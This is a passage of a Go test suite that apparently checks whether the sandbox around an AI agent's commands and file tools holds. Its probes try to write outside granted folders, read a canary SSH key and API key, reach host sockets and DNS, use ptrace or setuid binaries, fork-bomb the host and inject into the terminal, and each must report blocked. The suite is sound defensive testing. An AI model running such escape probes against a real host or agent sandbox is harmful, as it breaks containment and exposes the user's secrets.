package e2e

// The sandbox escape suite (issue 3): attacker code (testdata/attack) runs inside a real
// bubblewrap session through `keepup sandbox exec` or the bash tool of `keepup run`, tries one
// way out, and must fail; the host side is then checked for any change. Where a file tool can be
// asked the same thing, it must refuse too ("one answer"). TestSandboxAttackProbesWorkOnHost
// runs the same probes with nothing around them and requires them to succeed, so a probe that
// cannot see an escape cannot pass for a block.

import (
	"bufio"
	"bytes"
	"context"
	"crypto/rand"
	"crypto/sha256"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"io"
	"io/fs"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"golang.org/x/sys/unix"
)

// payload is what the attacker writes (testdata/attack.Payload).
const payload = "PWNED-by-attack"

var attackBuild struct {
	once sync.Once
	dir  string
	err  error
}

// attackDir builds the attacker once, static, into a folder holding nothing else (granted
// read-only as "tools", so inside it is ../tools/attack from the first grant).
func attackDir(t *testing.T) string {
	t.Helper()
	attackBuild.once.Do(func() {
		dir := filepath.Join(filepath.Dir(keepupBin), "attack-tools")
		if err := os.MkdirAll(dir, 0o755); err != nil {
			attackBuild.err = err
			return
		}
		ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
		defer cancel()
		cmd := exec.CommandContext(ctx, "go", "build", "-o", filepath.Join(dir, "attack"), "./testdata/attack")
		cmd.Env = append(os.Environ(), "CGO_ENABLED=0")
		if out, err := cmd.CombinedOutput(); err != nil {
			attackBuild.err = fmt.Errorf("building the attacker: %v\n%s", err, out)
			return
		}
		attackBuild.dir = dir
	})
	if attackBuild.err != nil {
		t.Fatal(attackBuild.err)
	}
	return attackBuild.dir
}

// Sessions on one grant run one after another in these tests (subtests that share an sbx are
// not parallel): concurrent sessions on one folder are the subject of
// TestSandboxConcurrentSessionsKeepGuards.

// sbx is an escape environment set up for the sandbox: the read-write grant "work" (first, so
// commands start in it), a read-only grant "ro", the attacker as "tools", the outside folder
// next to them, and a fake SSH key in the host home keepup runs with.
type sbx struct {
	*escapeEnv
	ro, roFile string
	tools      string
	sshKey     string
}

func newSbx(t *testing.T) *sbx {
	t.Helper()
	s := &sbx{escapeEnv: newEscapeEnv(t), tools: attackDir(t)}
	s.roFile = s.write("ro/readonly.txt", "read only")
	s.ro = filepath.Dir(s.roFile)
	s.sshKey = s.write(".ssh/id_rsa", "-----BEGIN OPENSSH PRIVATE KEY----- canary "+randHex(8))
	return s
}

func randHex(n int) string {
	b := make([]byte, n)
	rand.Read(b)
	return hex.EncodeToString(b)
}

func (s *sbx) grantArgs() []string {
	return []string{"--grant", "work=" + s.grant, "--grant", "ro=" + s.ro + ":ro", "--grant", "tools=" + s.tools + ":ro"}
}

// runFor runs keepup in e's environment for at most d. A keepup that cannot start or hangs
// fails t (not e.t) with Errorf and gives exit code -1: runFor is called from goroutines too,
// where t.Fatal must not be.
func runFor(t *testing.T, e *env, d time.Duration, stdin string, args ...string) result {
	t.Helper()
	cmd := execKeepup(e, args...)
	cmd.Stdin = strings.NewReader(stdin)
	var out, errb syncBuffer
	cmd.Stdout, cmd.Stderr = &out, &errb
	if err := cmd.Start(); err != nil {
		t.Errorf("starting keepup: %v", err)
		return result{code: -1}
	}
	done := make(chan struct{})
	go func() { cmd.Wait(); close(done) }()
	select {
	case <-done:
	case <-time.After(d):
		cmd.Process.Kill()
		<-done
		t.Errorf("keepup %s did not finish in %s\nstdout: %s\nstderr: %s", strings.Join(args, " "), d, out.String(), errb.String())
		return result{code: -1, stdout: out.String(), stderr: errb.String()}
	}
	return result{code: cmd.ProcessState.ExitCode(), stdout: out.String(), stderr: errb.String()}
}

// exec runs `keepup sandbox exec` with the environment's grants, flags (e.g. --timeout) and
// the command.
func (s *sbx) exec(t *testing.T, flags []string, command ...string) result {
	t.Helper()
	args := append([]string{"sandbox", "exec"}, s.grantArgs()...)
	args = append(args, flags...)
	args = append(append(args, "--"), command...)
	return runFor(t, s.env, 2*time.Minute, "", args...)
}

// attack runs the attacker inside: ../tools/attack PROBE ARGS.
func (s *sbx) attack(t *testing.T, probe ...string) result {
	t.Helper()
	return s.exec(t, []string{"--timeout", "60"}, append([]string{"../tools/attack"}, probe...)...)
}

// blocked requires a probe to have reported BLOCKED and nothing else.
func blocked(t *testing.T, what string, r result) {
	t.Helper()
	switch {
	case strings.Contains(r.stdout, "ESCAPED"):
		t.Errorf("%s: ESCAPED (exit %d)\n%s%s", what, r.code, r.stdout, r.stderr)
	case strings.HasPrefix(r.stdout, "BLOCKED ") || strings.Contains(r.stdout, "\nBLOCKED "):
		if r.code != 0 {
			t.Errorf("%s: BLOCKED but exit %d\n%s%s", what, r.code, r.stdout, r.stderr)
		}
		t.Logf("%s: %s", what, strings.TrimSpace(r.stdout))
	default:
		t.Errorf("%s: the probe did not report (exit %d)\nstdout: %s\nstderr: %s", what, r.code, r.stdout, r.stderr)
	}
}

// escaped requires a probe run on the host to have reported ESCAPED.
func escaped(t *testing.T, what string, r result) {
	t.Helper()
	if r.code != 1 || !strings.HasPrefix(r.stdout, "ESCAPED ") && !strings.Contains(r.stdout, "\nESCAPED ") {
		t.Errorf("%s on the host: want ESCAPED (exit 1), got exit %d\nstdout: %s\nstderr: %s", what, r.code, r.stdout, r.stderr)
	}
}

// snapshot records everything under root: kind, mode, size, content hash, link target and
// modification time of files; kind and mode of the rest. skip leaves out a relative path and
// everything under it.
func snapshot(t *testing.T, root string, skip func(rel string) bool) map[string]string {
	t.Helper()
	out := map[string]string{}
	err := filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		rel, _ := filepath.Rel(root, p)
		if skip != nil && rel != "." && skip(rel) {
			if d.IsDir() {
				return filepath.SkipDir
			}
			return nil
		}
		fi, err := os.Lstat(p)
		if err != nil {
			return err
		}
		switch {
		case fi.Mode().IsRegular():
			b, err := os.ReadFile(p)
			if err != nil {
				return err
			}
			out[rel] = fmt.Sprintf("file %v %d %x %d", fi.Mode(), fi.Size(), sha256.Sum256(b), fi.ModTime().UnixNano())
		case fi.Mode()&fs.ModeSymlink != 0:
			target, _ := os.Readlink(p)
			out[rel] = "symlink -> " + target
		default:
			out[rel] = fmt.Sprintf("%v", fi.Mode())
		}
		return nil
	})
	if err != nil {
		t.Fatalf("snapshot of %s: %v", root, err)
	}
	return out
}

// compare reports every difference between two snapshots of where, except new entries
// tolerate accepts (which are logged).
func compare(t *testing.T, where string, before, after map[string]string, tolerate func(rel, state string) bool) {
	t.Helper()
	var diffs []string
	for rel, was := range before {
		now, ok := after[rel]
		switch {
		case !ok:
			diffs = append(diffs, fmt.Sprintf("%s disappeared (was %s)", rel, was))
		case now != was:
			diffs = append(diffs, fmt.Sprintf("%s changed: %s -> %s", rel, was, now))
		}
	}
	for rel, now := range after {
		if _, ok := before[rel]; ok {
			continue
		}
		if tolerate != nil && tolerate(rel, now) {
			t.Logf("%s: %s appeared (%s): an empty placeholder, tolerated", where, rel, now)
			continue
		}
		diffs = append(diffs, fmt.Sprintf("%s appeared: %s", rel, now))
	}
	sort.Strings(diffs)
	for _, d := range diffs {
		t.Errorf("%s: %s", where, d)
	}
}

// hostState is everything on the host an attack must not change: the work folder (outside
// folder, read-only grant, the fake host home) and, separately, the read-write grant.
type hostState struct{ outside, grant map[string]string }

func (s *sbx) state(t *testing.T) hostState {
	t.Helper()
	return hostState{
		outside: snapshot(t, s.dir, func(rel string) bool {
			return rel == "grant" || strings.HasPrefix(rel, "script-")
		}),
		grant: snapshot(t, s.grant, nil),
	}
}

// unchanged fails on any change since before. In the read-write grant, empty files or folders
// appearing at protected paths are tolerated: a sandbox may have to create them to bind
// something read-only over them.
func (s *sbx) unchanged(t *testing.T, before hostState) {
	t.Helper()
	after := s.state(t)
	compare(t, "outside the grants", before.outside, after.outside, nil)
	compare(t, "the read-write grant", before.grant, after.grant, placeholder)
}

// placeholder: an empty file or folder at a protected path (or on the way to one).
func placeholder(rel, state string) bool {
	rel = filepath.ToSlash(rel)
	ok := false
	for _, p := range []string{".git", ".git/hooks", ".git/config", ".gitmodules", ".bashrc", ".bash_profile", ".zshrc", ".zprofile", ".profile", ".gitconfig", ".mcp.json", ".claude", ".keepup", ".vscode", ".idea"} {
		if rel == p {
			ok = true
		}
	}
	return ok && (strings.HasPrefix(state, "d") || strings.HasPrefix(state, "file -") && strings.Contains(state, " 0 "))
}

// callResult is what one tool call of a run came back with.
type callResult struct{ status, content string }

// toolResults maps tool_call_id to the call's result.
func toolResults(t *testing.T, stdout string) map[string]callResult {
	t.Helper()
	out := map[string]callResult{}
	for _, ev := range ofType(events(t, stdout), "tool.result") {
		d := ev.data()
		id, _ := d["tool_call_id"].(string)
		st, _ := d["status"].(string)
		c, _ := d["content"].(string)
		if e, _ := d["error"].(string); e != "" {
			c += " " + e
		}
		out[id] = callResult{st, c}
	}
	return out
}

// fileCall is one file-tool call asked the same thing as an attack.
type fileCall struct {
	tool  string
	input obj
}

// fileToolsRefuse runs calls through `keepup run` with the sandbox's grants, one per turn,
// and requires every one to come back refused, denied or an error ("one answer").
func (s *sbx) fileToolsRefuse(t *testing.T, calls ...fileCall) {
	t.Helper()
	turns := []map[string]any{turn("", "update_plan", planCall("try"))}
	for _, c := range calls {
		turns = append(turns, turn("", c.tool, c.input))
	}
	turns = append(turns, turn("done"))
	args := append([]string{"run", "--json", "--approvals", "auto"}, s.grantArgs()...)
	args = append(args, "--model", s.script(turns...), "one answer")
	r := runFor(t, s.env, 2*time.Minute, "", args...)
	if r.code != 0 {
		t.Fatalf("keepup run: exit %d\n%s", r.code, r.stderr)
	}
	res := toolResults(t, r.stdout)
	for i, c := range calls {
		id := "script_" + itoa(i+1) + "_0"
		got, ok := res[id]
		if !ok {
			t.Errorf("file tools: %s %v: no result", c.tool, c.input)
			continue
		}
		if got.status == "ok" {
			t.Errorf("file tools: %s %v was allowed (%q) where the sandbox refuses it", c.tool, c.input, got.content)
		}
	}
}

// hostTmp is a unique path in the host's /tmp, removed at the end of the test.
func hostTmp(t *testing.T) string {
	p := "/tmp/keepup-escape-" + randHex(6)
	t.Cleanup(func() { os.RemoveAll(p) })
	return p
}

// --- probes on the host ---------------------------------------------------------------------

// hostAttack runs the attacker on the host, with nothing around it.
func hostAttack(t *testing.T, setup func(*exec.Cmd), args ...string) result {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	cmd := exec.CommandContext(ctx, filepath.Join(attackDir(t), "attack"), args...)
	cmd.WaitDelay = 5 * time.Second
	var out, errb bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errb
	if setup != nil {
		setup(cmd)
	}
	if err := cmd.Run(); err != nil && cmd.ProcessState == nil {
		t.Fatalf("attack %v: %v", args, err)
	}
	return result{code: cmd.ProcessState.ExitCode(), stdout: out.String(), stderr: errb.String()}
}

func isRoot() bool { return os.Geteuid() == 0 }

// TestSandboxAttackProbesWorkOnHost: every probe the suite relies on reports ESCAPED when
// nothing contains it, so a BLOCKED inside the sandbox means the sandbox stopped it.
func TestSandboxAttackProbesWorkOnHost(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	secret := filepath.Join(dir, "secret.txt")
	must(t, os.WriteFile(secret, []byte("SECRET"), 0o644))
	tcpPort, tcpHits := tcpListener(t)
	sock := filepath.Join(dir, "host.sock")
	unixHits := unixListener(t, sock)
	abstract := "keepup-escape-" + randHex(6)
	abstractHits := unixListener(t, "@"+abstract)
	dnsPort, dnsHits := dnsServer(t)
	canary := "sk-canary-" + randHex(8)

	cases := []struct {
		name     string
		rootOnly bool
		args     []string
		setup    func(*exec.Cmd)
		after    func(t *testing.T)
	}{
		{name: "write", args: []string{"write", filepath.Join(dir, "new.txt")}},
		{name: "read", args: []string{"read", secret}},
		{name: "list", args: []string{"list", dir}},
		{name: "mutate", args: []string{"mutate", writeTemp(t, dir, "victim.txt")}},
		{name: "create", args: []string{"create", filepath.Join(dir, "a/b/c.txt")}},
		{name: "procroot", args: []string{"procroot", secret}},
		{name: "envscan", args: []string{"envscan", hex.EncodeToString([]byte(canary))},
			setup: func(c *exec.Cmd) { c.Env = append(os.Environ(), "ANTHROPIC_API_KEY="+canary) }},
		{name: "tcp", args: []string{"tcp", "127.0.0.1:" + strconv.Itoa(tcpPort)},
			after: func(t *testing.T) { positive(t, "tcp listener", tcpHits) }},
		{name: "unix", args: []string{"unix", sock},
			after: func(t *testing.T) { positive(t, "unix listener", unixHits) }},
		{name: "abstract", args: []string{"abstract", abstract},
			after: func(t *testing.T) { positive(t, "abstract listener", abstractHits) }},
		{name: "dns", args: []string{"dns", "probe.keepup.test", "127.0.0.1:" + strconv.Itoa(dnsPort)},
			after: func(t *testing.T) { positive(t, "dns server", dnsHits) }},
		{name: "ptrace", args: []string{"ptrace"}},
		{name: "forkbomb", args: []string{"forkbomb", "50"}},
		{name: "memhog", args: []string{"memhog", "64"}},
		{name: "memhogs", args: []string{"memhogs", "4", "128"}},
		{name: "sys keyctl", args: []string{"sys", "keyctl"}},
		{name: "sys add_key", args: []string{"sys", "add_key"}},
		{name: "sys personality", args: []string{"sys", "personality"}},
		{name: "sys clone-newuser", args: []string{"sys", "clone-newuser"}},
		{name: "sys unshare-user", args: []string{"sys", "unshare-user"}},
		{name: "sys process_vm_readv", args: []string{"sys", "process_vm_readv"}},
		{name: "status", rootOnly: true, args: []string{"status"}},
		{name: "ids", rootOnly: true, args: []string{"ids"}},
		{name: "raw", rootOnly: true, args: []string{"raw"}},
		{name: "mknod", rootOnly: true, args: []string{"mknod", dir}},
		{name: "mount", rootOnly: true, args: []string{"mount", mkdir(t, filepath.Join(dir, "mnt"))},
			setup: func(c *exec.Cmd) { c.SysProcAttr = &syscall.SysProcAttr{Unshareflags: syscall.CLONE_NEWNS} }},
		{name: "sys unshare-mount", rootOnly: true, args: []string{"sys", "unshare-mount"}},
		{name: "sys setns", rootOnly: true, args: []string{"sys", "setns"}},
		{name: "sys chroot", rootOnly: true, args: []string{"sys", "chroot"}},
		{name: "sys bpf", rootOnly: true, args: []string{"sys", "bpf"}},
		{name: "sys perf_event_open", rootOnly: true, args: []string{"sys", "perf_event_open"}},
		{name: "sys userfaultfd", rootOnly: true, args: []string{"sys", "userfaultfd"}},
		{name: "sys open_by_handle_at", rootOnly: true, args: []string{"sys", "open_by_handle_at"}},
		{name: "sys syslog", rootOnly: true, args: []string{"sys", "syslog"}},
	}
	if b, err := os.ReadFile("/proc/sys/kernel/io_uring_disabled"); err != nil || strings.TrimSpace(string(b)) == "0" {
		cases = append(cases, struct {
			name     string
			rootOnly bool
			args     []string
			setup    func(*exec.Cmd)
			after    func(t *testing.T)
		}{name: "iouring", args: []string{"iouring"}})
	} else {
		t.Log("io_uring is disabled on this host (kernel.io_uring_disabled): the io_uring probe is not shown to work")
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			if c.rootOnly && !isRoot() {
				t.Skip("needs root on the host to succeed")
			}
			escaped(t, c.name, hostAttack(t, c.setup, c.args...))
			if c.after != nil {
				c.after(t)
			}
		})
	}
	t.Run("marker scan", func(t *testing.T) {
		m := newMarker(t)
		cmd := exec.Command(filepath.Join(attackDir(t), "attack"), "hold", m)
		must(t, cmd.Start())
		defer func() { cmd.Process.Kill(); cmd.Wait() }()
		deadline := time.Now().Add(5 * time.Second)
		for len(procsWithArg(m)) == 0 && time.Now().Before(deadline) {
			time.Sleep(20 * time.Millisecond)
		}
		if got := procsWithArg(m); len(got) != 1 || got[0] != cmd.Process.Pid {
			t.Errorf("the /proc scan found %v, want [%d]", got, cmd.Process.Pid)
		}
	})
	t.Run("hardlink", func(t *testing.T) {
		d := t.TempDir()
		out := filepath.Join(d, "outside.txt")
		must(t, os.WriteFile(out, []byte("SECRET"), 0o644))
		escaped(t, "hardlink", hostAttack(t, nil, "hardlink", out, filepath.Join(d, "link.txt")))
		if readFile(t, out) == "SECRET" {
			t.Error("writing through the hard link did not reach the linked file")
		}
	})
	t.Run("renameaside", func(t *testing.T) {
		d := t.TempDir()
		hooks := mkdir(t, filepath.Join(d, ".git/hooks"))
		escaped(t, "renameaside", hostAttack(t, nil, "renameaside", hooks, filepath.Join(hooks, "pre-commit")))
	})
	t.Run("setuid", func(t *testing.T) {
		if !isRoot() {
			t.Skip("needs root to make a setuid-root binary and run it as another user")
		}
		d := t.TempDir()
		// The temp folders are private (0700); the unprivileged user needs to get through.
		for p := d; p != os.TempDir() && p != "/"; p = filepath.Dir(p) {
			os.Chmod(p, 0o755)
		}
		suid := copySetuid(t, filepath.Join(attackDir(t), "attack"), filepath.Join(d, "suid-attack"))
		r := hostRun(t, suid, func(c *exec.Cmd) {
			c.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 65534, Gid: 65534}}
		}, "ids")
		escaped(t, "setuid", r)
	})
	t.Run("tiocsti", func(t *testing.T) {
		master, slave := openPty(t)
		out := &syncBuffer{}
		go io.Copy(out, master)
		r := hostAttack(t, func(c *exec.Cmd) {
			c.Stdin, c.Stdout, c.Stderr = slave, slave, slave
			c.SysProcAttr = &syscall.SysProcAttr{Setsid: true, Setctty: true}
		}, "tiocsti")
		if r.code != 1 {
			t.Errorf("tiocsti on the host: exit %d, want 1 (ESCAPED)\n%s", r.code, out.String())
		}
		if !injected(t, slave, out) {
			t.Errorf("TIOCSTI on the host did not reach the terminal's input\n%s", out.String())
		}
	})
}

func must(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

func writeTemp(t *testing.T, dir, name string) string {
	t.Helper()
	p := filepath.Join(dir, name)
	must(t, os.WriteFile(p, []byte("victim"), 0o644))
	return p
}

func mkdir(t *testing.T, p string) string {
	t.Helper()
	must(t, os.MkdirAll(p, 0o755))
	return p
}

func positive(t *testing.T, what string, hits *atomic.Int32) {
	t.Helper()
	deadline := time.Now().Add(2 * time.Second)
	for hits.Load() == 0 && time.Now().Before(deadline) {
		time.Sleep(20 * time.Millisecond)
	}
	if hits.Load() == 0 {
		t.Errorf("%s saw nothing from the host probe", what)
	}
}

// hostRun runs a binary on the host with a timeout.
func hostRun(t *testing.T, bin string, setup func(*exec.Cmd), args ...string) result {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	cmd := exec.CommandContext(ctx, bin, args...)
	var out, errb bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errb
	if setup != nil {
		setup(cmd)
	}
	if err := cmd.Run(); err != nil && cmd.ProcessState == nil {
		t.Fatalf("%s %v: %v", bin, args, err)
	}
	return result{code: cmd.ProcessState.ExitCode(), stdout: out.String(), stderr: errb.String()}
}

// copySetuid copies src to dst as a setuid and setgid binary.
func copySetuid(t *testing.T, src, dst string) string {
	t.Helper()
	b, err := os.ReadFile(src)
	must(t, err)
	must(t, os.WriteFile(dst, b, 0o755))
	must(t, os.Chmod(dst, 0o6755|fs.ModeSetuid|fs.ModeSetgid))
	fi, err := os.Stat(dst)
	must(t, err)
	if fi.Mode()&fs.ModeSetuid == 0 {
		t.Fatalf("%s is not setuid: %v", dst, fi.Mode())
	}
	return dst
}

// --- host-side listeners --------------------------------------------------------------------

// tcpListener listens on every address of the host and counts connections.
func tcpListener(t *testing.T) (int, *atomic.Int32) {
	t.Helper()
	l, err := net.Listen("tcp", ":0")
	must(t, err)
	t.Cleanup(func() { l.Close() })
	hits := new(atomic.Int32)
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			hits.Add(1)
			c.Close()
		}
	}()
	return l.Addr().(*net.TCPAddr).Port, hits
}

// unixListener listens on a Unix socket (a path, or @name for an abstract one) and counts
// connections.
func unixListener(t *testing.T, addr string) *atomic.Int32 {
	t.Helper()
	l, err := net.Listen("unix", addr)
	must(t, err)
	t.Cleanup(func() { l.Close() })
	hits := new(atomic.Int32)
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			hits.Add(1)
			c.Close()
		}
	}()
	return hits
}

// dnsServer answers every A query with 203.0.113.7 on a UDP port of every host address, and
// counts queries.
func dnsServer(t *testing.T) (int, *atomic.Int32) {
	t.Helper()
	pc, err := net.ListenPacket("udp", ":0")
	must(t, err)
	t.Cleanup(func() { pc.Close() })
	hits := new(atomic.Int32)
	go func() {
		buf := make([]byte, 1500)
		for {
			n, addr, err := pc.ReadFrom(buf)
			if err != nil {
				return
			}
			hits.Add(1)
			q := buf[:n]
			if n < 12 {
				continue
			}
			i := 12
			for i < n && q[i] != 0 {
				i += int(q[i]) + 1
			}
			i += 5 // the root label, QTYPE, QCLASS
			if i > n {
				continue
			}
			resp := append([]byte(nil), q[:i]...)
			resp[2], resp[3] = 0x81, 0x80                     // response, recursion desired and available
			resp[4], resp[5], resp[6], resp[7] = 0, 1, 0, 0   // one question, no answer yet
			resp[8], resp[9], resp[10], resp[11] = 0, 0, 0, 0 // no authority, no additional
			if binary.BigEndian.Uint16(q[i-4:]) == 1 /* A */ {
				resp[7] = 1
				resp = append(resp, 0xc0, 0x0c, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4, 203, 0, 113, 7)
			}
			pc.WriteTo(resp, addr)
		}
	}()
	return pc.LocalAddr().(*net.UDPAddr).Port, hits
}

// hostIPs are the host's addresses other than loopback.
func hostIPs(t *testing.T) []string {
	addrs, err := net.InterfaceAddrs()
	must(t, err)
	var out []string
	for _, a := range addrs {
		if n, ok := a.(*net.IPNet); ok && !n.IP.IsLoopback() && !n.IP.IsLinkLocalUnicast() {
			out = append(out, n.IP.String())
		}
	}
	return out
}

// --- terminals ------------------------------------------------------------------------------

// openPty opens a pseudo-terminal pair.
func openPty(t *testing.T) (master, slave *os.File) {
	t.Helper()
	mfd, err := unix.Open("/dev/ptmx", unix.O_RDWR|unix.O_NOCTTY|unix.O_CLOEXEC, 0)
	if err != nil {
		t.Skipf("no pseudo-terminals here: %v", err)
	}
	master = os.NewFile(uintptr(mfd), "ptmx")
	t.Cleanup(func() { master.Close() })
	must(t, unix.IoctlSetPointerInt(mfd, unix.TIOCSPTLCK, 0))
	n, err := unix.IoctlGetInt(mfd, unix.TIOCGPTN)
	must(t, err)
	slave, err = os.OpenFile("/dev/pts/"+strconv.Itoa(n), os.O_RDWR|unix.O_NOCTTY, 0)
	must(t, err)
	t.Cleanup(func() { slave.Close() })
	return master, slave
}

// injected reports whether the TIOCSTI probe's line reached the terminal: as pending input on
// its slave side, or echoed on the master side.
func injected(t *testing.T, slave *os.File, echo *syncBuffer) bool {
	t.Helper()
	time.Sleep(200 * time.Millisecond)
	fd := int(slave.Fd())
	must(t, unix.SetNonblock(fd, true))
	buf := make([]byte, 256)
	n, _ := unix.Read(fd, buf)
	pending := n > 0 && strings.Contains(string(buf[:n]), "keepup-tiocsti")
	return pending || strings.Contains(echo.String(), "#keepup-tiocsti")
}

// --- processes ------------------------------------------------------------------------------

// procsWithArg lists the host processes with marker as one of their arguments.
func procsWithArg(marker string) []int {
	ents, _ := os.ReadDir("/proc")
	var out []int
	for _, e := range ents {
		pid, err := strconv.Atoi(e.Name())
		if err != nil {
			continue
		}
		b, err := os.ReadFile("/proc/" + e.Name() + "/cmdline")
		if err != nil {
			continue
		}
		for _, a := range strings.Split(string(b), "\x00") {
			if a == marker {
				out = append(out, pid)
				break
			}
		}
	}
	return out
}

// survivors waits up to d for processes carrying marker to be gone and returns those left.
func survivors(marker string, d time.Duration) []int {
	deadline := time.Now().Add(d)
	for {
		left := procsWithArg(marker)
		if len(left) == 0 || time.Now().After(deadline) {
			return left
		}
		time.Sleep(50 * time.Millisecond)
	}
}

// newMarker is a unique argument for processes the test wants to find; whatever carries it is
// killed when the test ends, so a failing test leaves nothing running.
func newMarker(t *testing.T) string {
	m := "keepup-escape-marker-" + randHex(6)
	t.Cleanup(func() {
		for _, pid := range procsWithArg(m) {
			syscall.Kill(pid, syscall.SIGKILL)
		}
	})
	return m
}

// spawnLatency is how long the host takes to start and reap a trivial process.
func spawnLatency(t *testing.T) time.Duration {
	t.Helper()
	start := time.Now()
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	if err := exec.CommandContext(ctx, "true").Run(); err != nil {
		t.Errorf("the host cannot start a process: %v", err)
	}
	return time.Since(start)
}

// --- the suite ------------------------------------------------------------------------------

// TestSandboxPositiveControl: the sandbox runs the attacker as the unprivileged sandbox user in
// the first grant, and what is granted works — so the blocks below are the sandbox's doing,
// not a broken setup.
func TestSandboxPositiveControl(t *testing.T) {
	t.Parallel()
	s := newSbx(t)
	r := s.attack(t, "ok")
	if r.code != 0 || !strings.Contains(r.stdout, "OK uid=1000 euid=1000") || !strings.Contains(r.stdout, "/mnt/work ") {
		t.Fatalf("attack ok: exit %d\nstdout: %s\nstderr: %s", r.code, r.stdout, r.stderr)
	}
	r = s.attack(t, "create", "made/by/sandbox.txt", "@/outputs/report.txt", "/tmp/scratch.txt")
	if r.code != 1 || !strings.Contains(r.stdout, "ESCAPED") {
		t.Fatalf("writing to the grant, outputs and /tmp failed: exit %d\n%s%s", r.code, r.stdout, r.stderr)
	}
	if got := readFile(t, filepath.Join(s.grant, "made/by/sandbox.txt")); got != payload {
		t.Errorf("file written in the grant = %q", got)
	}
	outs, _ := filepath.Glob(filepath.Join(s.home, "outputs", "*", "report.txt"))
	if len(outs) != 1 || readFile(t, outs[0]) != payload {
		t.Errorf("outputs/report.txt not kept under KEEPUP_HOME: %v", outs)
	} else if want := "outputs are in " + filepath.Dir(outs[0]) + "\n"; !strings.Contains(r.stderr, want) {
		t.Errorf("stderr does not say %q: %s", want, r.stderr)
	}
	// A command that writes no outputs leaves no folder for them.
	before, _ := os.ReadDir(filepath.Join(s.home, "outputs"))
	if r := s.exec(t, nil, "sh", "-c", "exit 7"); r.code != 7 {
		t.Errorf("exit code: got %d, want the command's 7 (%s)", r.code, r.stderr)
	} else if strings.Contains(r.stderr, "outputs are in") {
		t.Errorf("stderr names an outputs folder the command did not write to: %s", r.stderr)
	}
	if after, _ := os.ReadDir(filepath.Join(s.home, "outputs")); len(after) != len(before) {
		t.Errorf("the outputs folder had %d entries, and %d after a command that wrote nothing", len(before), len(after))
	}
}

// TestSandboxWriteOutsideGrants: absolute host paths, `..` out of the grant, and the host's
// /tmp (which is not the sandbox's /tmp).
func TestSandboxWriteOutsideGrants(t *testing.T) {
	t.Parallel()
	s := newSbx(t)
	tmpOld := hostTmp(t)
	must(t, os.WriteFile(tmpOld, []byte("host tmp"), 0o644))
	tmpNew := hostTmp(t)
	newOutside := filepath.Join(s.outside, "new.txt")
	homeConfig := filepath.Join(s.home, "config.json")
	root := strings.Repeat("../", 16)
	before := s.state(t)
	cases := []struct {
		name  string
		probe []string
		// private: the path may exist inside (the sandbox's own /tmp); only the host counts.
		private bool
	}{
		{name: "absolute host path", probe: []string{"write", s.secret}},
		{name: "absolute new file", probe: []string{"write", newOutside}},
		{name: "dotdot", probe: []string{"write", "../outside/secret.txt"}},
		{name: "dotdot new file", probe: []string{"write", "../outside/new.txt"}},
		{name: "dotdot to the root", probe: []string{"write", root + s.secret[1:], root + newOutside[1:]}},
		{name: "absolute read", probe: []string{"read", s.secret, root + s.secret[1:]}},
		{name: "list the outside", probe: []string{"list", s.outside, s.dir}},
		{name: "KEEPUP_HOME", probe: []string{"write", homeConfig}},
		{name: "host /tmp read", probe: []string{"read", tmpOld}},
		{name: "host /tmp overwrite", probe: []string{"write", tmpOld}, private: true},
		{name: "host /tmp new file", probe: []string{"write", tmpNew}, private: true},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			r := s.attack(t, c.probe...)
			if c.private {
				if r.code > 1 {
					t.Errorf("probe failed: exit %d\n%s%s", r.code, r.stdout, r.stderr)
				}
				return
			}
			blocked(t, c.name, r)
		})
	}
	t.Cleanup(func() {
		s.fileToolsRefuse(t,
			fileCall{"write_file", obj{"path": s.secret, "content": "x"}},
			fileCall{"write_file", obj{"path": newOutside, "content": "x"}},
			fileCall{"write_file", obj{"path": "../outside/secret.txt", "content": "x"}},
			fileCall{"write_file", obj{"path": root + s.secret[1:], "content": "x"}},
			fileCall{"read_file", obj{"path": s.secret}},
			fileCall{"list_dir", obj{"path": s.outside}},
			fileCall{"write_file", obj{"path": homeConfig, "content": "x"}},
			fileCall{"read_file", obj{"path": tmpOld}},
			fileCall{"write_file", obj{"path": tmpNew, "content": "x"}},
		)
		s.unchanged(t, before)
		if got := readFile(t, tmpOld); got != "host tmp" {
			t.Errorf("the host's %s changed: %q", tmpOld, got)
		}
		if exists(tmpNew) {
			t.Errorf("%s appeared in the host's /tmp", tmpNew)
		}
		if exists(homeConfig) {
			t.Errorf("%s appeared in KEEPUP_HOME", homeConfig)
		}
	})
}

// TestSandboxReadOnlyGrant: nothing in a read-only grant can be changed: its files, the folder
// itself, new entries in it. (Uploads: TestSandboxUploadsReadOnly, through the bash tool.)
func TestSandboxReadOnlyGrant(t *testing.T) {
	t.Parallel()
	s := newSbx(t)
	before := s.state(t)
	cases := []struct{ name, path string }{
		{"file", "@/ro/readonly.txt"},
		{"folder", "@/ro"},
		{"file by relative path", "../ro/readonly.txt"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			blocked(t, "mutate "+c.path, s.attack(t, "mutate", c.path))
		})
	}
	t.Run("new file", func(t *testing.T) {
		blocked(t, "create in ro", s.attack(t, "create", "@/ro/new.txt", "@/ro/sub/new.txt"))
	})
	t.Cleanup(func() {
		s.fileToolsRefuse(t,
			fileCall{"write_file", obj{"path": "/sessions/${session}/mnt/ro/readonly.txt", "content": "x"}},
			fileCall{"write_file", obj{"path": "/sessions/${session}/mnt/ro/new.txt", "content": "x"}},
